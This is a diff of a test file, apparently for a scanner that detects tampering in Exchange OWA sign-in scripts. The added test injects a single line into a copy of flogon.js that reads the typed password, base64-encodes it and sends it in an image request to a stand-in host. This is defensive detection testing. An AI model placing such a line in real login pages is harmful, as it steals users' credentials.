@@ -37,7 +37,7 @@ const CLKLGN_GENUINE = [
   '    oD.setTime(oD.getTime() + 2 * 7 * 24 * 60 * 60 * 1000);',
   '    var sL = "lgn=" + gbid("username").value;',
   '    document.cookie = "logondata=acc=0&" + sL + "; expires=" + oD.toUTCString();',
-  '    if (gbid("showPasswordCheck").checked) { passwordElement = gbid("password"); passwordElement.value = gbid("passwordText").value; }',
+  '    if (gbid("showPasswordCheck").checked) { passwordElement = gbid("password"); passwordTextElement = gbid("passwordText"); passwordElement.value = passwordTextElement.value; }',
   '    document.cookie = "PBack=0; path=/";',
   '    document.logonForm.submit();',
   '}',
@@ -159,6 +159,22 @@ describe('an OWA sign-in page turned into a credential stealer', () => {
     expect(h.verdict).toBe('compromised');
     expect(rulesOf(h, 'owa/auth/logon.aspx')).toEqual(['WS-34 critical']);
     expect(rulesOf(h, 'scripts/premium/flogon.js')).toEqual(['WS-35 critical']);
+  });
+
+  it('a keylogger no signature knows, in flogon.js: medium on CU8 (its list says modified), named as not checked on CU14', () => {
+    // The password taken through a variable and sent as an image request: WS-35 does not know this shape.
+    const hidden = CLKLGN_GENUINE.replace('    document.cookie = "PBack=0; path=/";', '    var q = passwordElement.value; (new Image()).src = "https://cdn.example.net/p.gif?d=" + btoa(q);\r\n    document.cookie = "PBack=0; path=/";');
+    const rel = (build: string) => `${FE}/owa/auth/${build}/scripts/premium/flogon.js`;
+    const cu8 = server('cu8-hidden', '15.2.792', false);
+    put(cu8, rel('15.2.792'), hidden);
+    const h8 = scan(cu8, 'cu8-hidden');
+    expect(rulesOf(h8, 'scripts/premium/flogon.js')).toEqual(['WS-07 medium']);
+    expect(h8.verdict).toBe('suspicious');
+    const c14 = server('cu14-hidden', '15.2.1544', false);
+    put(c14, rel('15.2.1544'), hidden);
+    const h14 = scan(c14, 'cu14-hidden');
+    expect(rulesOf(h14, 'scripts/premium/flogon.js')).toEqual(['WS-07 low']);
+    expect(h14.reasons.find((r) => r.startsWith('not checked:'))).toMatch(/^not checked: 10 Exchange web file\(s\).*premium\\flogon\.js/);
   });
 
   it("next steps restore Exchange's own files (never delete them) and reset the passwords typed into the page", () => {
